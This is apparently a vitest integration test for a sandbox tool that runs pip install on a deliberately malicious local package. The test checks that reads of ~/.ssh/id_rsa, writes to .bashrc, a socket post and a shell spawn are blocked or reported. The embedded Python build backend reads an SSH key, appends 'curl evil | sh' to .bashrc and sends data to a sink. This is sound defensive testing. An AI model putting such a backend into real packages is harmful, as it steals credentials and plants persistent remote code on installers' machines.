// A real `pip install` (offline: --no-index, from a local source tree and a local wheel) under
// `warden run`, HOME pointed at a temp folder; the preset is chosen from the command
// (pypi-install). The source package's build backend (in-tree, PEP 517: pip runs it in a child
// Python, which the agent follows) reads ~/.ssh/id_rsa, appends to ~/.bashrc, posts to a
// loopback sink and spawns `sh -c`: each is blocked or reported, the sink receives nothing, and
// both packages still install. Skipped without python3 and pip.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runWarden, tempDir } from "./helpers.js";
import { eventsOf, PY } from "./python-helpers.js";

function hasPip(): boolean {
  if (PY === undefined) return false;
  try {
    execFileSync(PY, ["-m", "pip", "--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

let sink: ReturnType<typeof createServer>;
let port = 0;
let connections = 0;
beforeAll(async () => {
  sink = createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((r) => sink.listen(0, "127.0.0.1", () => r()));
  port = (sink.address() as { port: number }).port;
});
afterAll(() => new Promise<void>((r) => sink.close(() => r())));

const BACKEND = `
import os, socket, subprocess, zipfile
def _evil():
    home = os.path.expanduser("~")
    try:
        open(os.path.join(home, ".ssh", "id_rsa")).read(); print("EVIL READ")
    except OSError as e:
        print("evil: read", e.errno)
    try:
        with open(os.path.join(home, ".bashrc"), "a") as f: f.write("curl evil | sh\\n")
    except OSError as e:
        print("evil: append", e.errno)
    try:
        s = socket.create_connection(("127.0.0.1", int(os.environ["SINK_PORT"])), timeout=5); s.sendall(b"key")
    except OSError as e:
        print("evil: post", e.errno)
    subprocess.run(["sh", "-c", "echo evil-sh"])
def _wheel(directory, name, text):
    whl = f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, whl), "w") as z:
        z.writestr(f"{name}/__init__.py", text)
        z.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
        z.writestr(f"{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        z.writestr(f"{name}-1.0.dist-info/RECORD", "")
    return whl
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _evil()
    return _wheel(wheel_directory, "evilpkg", "X = 1\\n")
`;

describe.skipIf(!hasPip())("warden run -- pip install", () => {
  it("blocks or reports what a malicious build backend does; both packages install", async () => {
    const root = tempDir("warden-pip-");
    const home = join(root, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
    writeFileSync(join(home, ".bashrc"), "# rc\n");
    mkdirSync(join(root, "evil"));
    writeFileSync(
      join(root, "evil", "pyproject.toml"),
      '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    );
    writeFileSync(join(root, "evil", "backend.py"), BACKEND);
    // The legitimate package: a wheel, made with the same helper.
    execFileSync(
      PY!,
      [
        "-c",
        `import sys; sys.path.insert(0, "evil"); import backend; backend._wheel(".", "goodpkg", "X = 42\\n")`,
      ],
      { cwd: root },
    );
    const target = join(root, "target");
    const r = await runWarden(
      [
        "run",
        "--json",
        // What this proves is the Python agent's: the strace layer (test/trace/strace.test.ts)
        // would add about a third to the CPU time of the run (pip opens thousands of files).
        "--no-strace",
        "--",
        PY!,
        "-m",
        "pip",
        "install",
        "./evil",
        "./goodpkg-1.0-py3-none-any.whl",
        "--no-index",
        "--no-build-isolation",
        "--disable-pip-version-check",
        "--target",
        target,
        "-v",
      ],
      {
        cwd: root,
        env: {
          ...process.env,
          HOME: home,
          SINK_PORT: String(port),
          PIP_NO_CACHE_DIR: "1",
          PIP_CONFIG_FILE: "/dev/null",
        },
        timeoutMs: 120_000,
      },
    );
    expect(r.code, r.stderr).toBe(0);
    const { events, summary } = eventsOf(r.stdout);
    const blocked = events.filter((e) => e.verdict === "block");
    // The preset was chosen from the command.
    expect(
      blocked.every(
        (e) =>
          String(e.rule ?? e.reason).includes("pypi-install") || e.function === "py:socket.connect",
      ),
    ).toBe(true);
    expect(blocked.map((e) => `${e.function} ${e.target}`).sort()).toEqual(
      [
        `py:open ${join(home, ".bashrc")}`,
        `py:open ${join(home, ".ssh", "id_rsa")}`,
        "py:socket.connect 127.0.0.1",
      ].sort(),
    );
    expect(r.stderr).toContain("evil: read 13");
    expect(r.stderr).toContain("evil: append 13");
    expect(r.stderr).toContain("evil: post 111");
    expect(r.stderr).not.toContain("EVIL READ");
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
    expect(connections).toBe(0);
    // The backend ran in a child Python the agent followed; its shell is reported (warn).
    const backendPid = blocked[0]!.pid;
    expect(events.find((e) => e.function === "exec")?.pid).not.toBe(backendPid);
    expect(
      events.some(
        (e) =>
          e.function === "py:subprocess.Popen" &&
          e.verdict === "warn" &&
          JSON.stringify(e.arguments).includes("evil-sh"),
      ),
    ).toBe(true);
    expect(existsSync(join(target, "goodpkg", "__init__.py"))).toBe(true);
    expect(existsSync(join(target, "evilpkg", "__init__.py"))).toBe(true);
    expect(summary.lost).toBe(0);
  }, 150_000);
});
